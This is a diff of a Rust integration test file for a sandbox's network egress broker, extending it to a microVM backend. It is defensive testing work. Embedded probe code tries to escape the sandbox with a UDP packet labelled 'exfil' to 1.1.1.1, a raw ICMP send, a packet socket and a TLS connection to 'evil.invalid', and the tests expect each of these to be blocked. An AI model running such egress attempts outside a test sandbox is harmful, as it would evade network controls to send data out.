@@ -1,5 +1,6 @@
 //! Egress through cordon's broker (`--allow`), from the command line, as
-//! root and unprivileged (the microvm backend refuses `allow` so far).
+//! root, unprivileged and in a microVM (whose guest relays its proxy
+//! connections to the host's broker over the control channel).
 //!
 //! The real thing first: `pip install` and `npm install` of real packages
 //! from the registries this machine's tools are configured for, with the
@@ -18,6 +19,8 @@
 #[macro_use]
 mod common;
 
+use std::time::Duration;
+
 use common::Ctx;
 
 /// `python3 -m venv` and pip inside, quietly; prints `installed VERSION`.
@@ -30,25 +33,35 @@ const NPM_INSTALL: &str = "mkdir -p /tmp/p && cd /tmp/p && \
     npm install --no-audit --no-fund --cache /tmp/npm-cache -s is-number 2>&1 | tail -3; \
     node -e 'console.log(\"installed\", require(\"is-number/package.json\").version)'";
 
+/// A real install takes a while, most of all in a microVM under TCG.
+fn install(t: &Ctx, allow: &str, script: &str) -> common::Out {
+    let deadline = if t.vm() { 300 } else { 120 };
+    t.run_deadline(
+        &["--allow", allow],
+        &["bash", "-c", script],
+        Duration::from_secs(deadline),
+    )
+}
+
 fn pip_installs_with_python_allowed_and_not_without(t: &Ctx) {
-    let out = t.sh_with(&["--allow", "@python"], PIP_INSTALL);
+    let out = install(t, "@python", PIP_INSTALL);
     out.code(0).line_starts("installed ");
-    let out = t.sh_with(&["--allow", "@node"], PIP_INSTALL);
+    let out = install(t, "@node", PIP_INSTALL);
     out.lacks("installed ")
         .stderr_has("cordon: network: ")
         .stderr_has("refused by policy (allowed: ");
 }
-attack!(pip_installs_with_python_allowed_and_not_without, native);
+attack!(pip_installs_with_python_allowed_and_not_without);
 
 fn npm_installs_with_node_allowed_and_not_without(t: &Ctx) {
-    let out = t.sh_with(&["--allow", "@node"], NPM_INSTALL);
+    let out = install(t, "@node", NPM_INSTALL);
     out.code(0).line_starts("installed ");
-    let out = t.sh_with(&["--allow", "@python"], NPM_INSTALL);
+    let out = install(t, "@python", NPM_INSTALL);
     out.lacks("installed ")
         .stderr_has("cordon: network: ")
         .stderr_has("refused by policy (allowed: ");
 }
-attack!(npm_installs_with_node_allowed_and_not_without, native);
+attack!(npm_installs_with_node_allowed_and_not_without);
 
 /// Each probe prints `NAME ok` when it got through and `NAME blocked: WHY`
 /// otherwise; the proxy is 127.0.0.1:3128 in the sandbox.
@@ -102,8 +115,20 @@ def udp():
     u.sendto(b"exfil", ("1.1.1.1", 53))
     return "sent"
 probe("udp", udp)
-probe("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
-probe("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
+# A microVM guest's root may open raw and packet sockets: they must have
+# nowhere to go (no interface but lo); natively they cannot be opened.
+def raw():
+    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    r.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))
+    return "sent"
+probe("raw", raw)
+def packet():
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+    others = [n for _, n in socket.if_nameindex() if n != "lo"]
+    if not others:
+        raise Exception("no interface but lo")
+    return others
+probe("packet", packet)
 probe("sni-matches", lambda: tls(allowed))
 probe("sni-differs", lambda: tls("evil.invalid"))
 def not_listed():
@@ -140,7 +165,7 @@ fn nothing_but_the_broker_gets_out(t: &Ctx) {
         out.line_starts(&format!("{name} blocked: "));
     }
 }
-attack!(nothing_but_the_broker_gets_out, native);
+attack!(nothing_but_the_broker_gets_out);
 
 /// A name the policy lists that resolves to loopback (the host's own
 /// services, or DNS rebinding) is refused unless private addresses are
@@ -181,7 +206,7 @@ fn a_listed_name_resolving_to_loopback_is_refused(t: &Ctx) {
     ))
     .lacks("host-only-service");
 }
-attack!(a_listed_name_resolving_to_loopback_is_refused, native);
+attack!(a_listed_name_resolving_to_loopback_is_refused);
 
 /// Through `cordon exec`: the model is told what it may reach, and a
 /// refused connection is a line in the tool's result it can act on.
